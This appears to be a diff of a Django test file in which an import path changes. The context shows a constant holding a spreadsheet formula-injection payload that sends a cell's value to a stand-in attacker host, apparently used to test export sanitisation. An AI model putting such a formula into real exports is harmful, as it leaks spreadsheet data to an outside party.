@@ -4,7 +4,7 @@ import pytest
 from django.test import Client
 
 from backoffice.kit.export import harmless
-from tests.factories import OrderFactory
+from tests.support.factories import OrderFactory
 from webhooks.privacy import masked
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
